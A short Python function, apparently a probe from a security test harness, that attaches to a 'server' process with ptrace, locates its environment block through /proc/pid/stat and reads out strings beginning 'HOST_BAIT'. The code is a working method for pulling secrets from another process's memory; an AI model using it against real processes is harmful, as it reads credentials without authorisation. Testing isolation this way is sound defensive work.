import ctypes
import os
import struct

ATTACH, DETACH, PEEK = 16, 17, 2


def main(bait, context):
    """Attaches to the server as a debugger and reads its memory."""
    pid = bait["server"]["pid"]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(ATTACH, pid, None, None) < 0:
        return os.strerror(ctypes.get_errno())
    try:
        os.waitpid(pid, 0x40000000)
        # Where the environment lies is told to those who may trace.
        fields = open(f"/proc/{pid}/stat").read().rsplit(") ", 1)[1].split()
        start, end = int(fields[47]), int(fields[48])
        words = [libc.ptrace(PEEK, pid, at, None) for at in range(start, end, 8)]
        text = struct.pack(f"{len(words)}q", *words).decode("latin1")
        return [part for part in text.split("\0") if part.startswith("HOST_BAIT")]
    finally:
        libc.ptrace(DETACH, pid, None, None)
